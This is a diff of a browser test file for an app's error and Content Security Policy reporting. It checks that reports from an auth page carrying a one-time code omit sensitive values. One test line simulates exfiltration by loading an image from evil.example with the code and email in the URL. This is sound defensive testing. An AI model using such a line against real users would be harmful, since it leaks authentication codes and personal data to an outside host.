@@ -44,58 +44,39 @@ async function openForm(
 }
 
 describe('what goes wrong is reported', () => {
-  test('an error and a rejection: with name and place, without their message', () =>
+  test('an error, a rejection, and violations of the policy, on a page with a code in its address: by name, place, origin or keyword, without their message', () =>
     inTab(async (tab) => {
       const { page } = tab;
       tab.allow(/page error: |Failed to load resource: .*accounts:resetPassword/);
+      tab.allow(/^CSP:|Content Security Policy|another origin: https:..evil.example/);
       const sent = recordSending(page);
       const reports = await reportsFromNow(tab);
       await page.goto(`/auth?mode=resetPassword&oobCode=${CODE}`);
       await page.getByRole('heading', { level: 1 }).waitFor();
       await page.evaluate(
-        ([mail, token]) => {
+        ([code, mail, token]) => {
           setTimeout(() => {
             throw new TypeError(`${mail} is no customer`);
           });
           void Promise.reject(token);
+          new Image().src = `https://evil.example/${code}?mail=${mail}`;
+          document.body.setAttribute('style', `--mail: "${mail}"`);
         },
-        [MAIL, TOKEN],
+        [CODE, MAIL, TOKEN],
       );
-      await expect.poll(() => kindsOf(reports)).toHaveLength(2);
+      await expect.poll(() => kindsOf(reports)).toHaveLength(4);
       const received = await reports();
       expect(received).toEqual(
         expect.arrayContaining([
           expect.objectContaining({ kind: 'error', name: 'TypeError', screen: 'actionLink' }),
           expect.objectContaining({ kind: 'rejection', name: 'other', release: 'sandbox' }),
-        ]),
-      );
-      expect(received[0]?.states).toContain('app.actionLink');
-      for (const canary of CANARIES) expect(JSON.stringify([received, sent])).not.toContain(canary);
-    }));
-
-  test('a violation of the policy on a page with a code in its address: the origin, or a keyword', () =>
-    inTab(async (tab) => {
-      const { page } = tab;
-      tab.allow(/^CSP:|Content Security Policy|another origin: https:..evil.example/);
-      const sent = recordSending(page);
-      const reports = await reportsFromNow(tab);
-      await page.goto(`/auth?mode=verifyEmail&oobCode=${CODE}`);
-      await page.getByRole('heading', { level: 1 }).waitFor();
-      await page.evaluate(
-        ([code, mail]) => {
-          new Image().src = `https://evil.example/${code}?mail=${mail}`;
-          document.body.setAttribute('style', `--mail: "${mail}"`);
-        },
-        [CODE, MAIL],
-      );
-      await expect.poll(() => kindsOf(reports)).toHaveLength(2);
-      const received = await reports();
-      expect(received).toEqual(
-        expect.arrayContaining([
           expect.objectContaining({ directive: 'img-src', blocked: 'https://evil.example' }),
           expect.objectContaining({ directive: 'style-src-attr', blocked: 'inline' }),
         ]),
       );
+      expect(received.find(({ kind }) => kind === 'error')).toMatchObject({
+        states: expect.arrayContaining(['app.actionLink']),
+      });
       for (const canary of CANARIES) expect(JSON.stringify([received, sent])).not.toContain(canary);
     }));
 
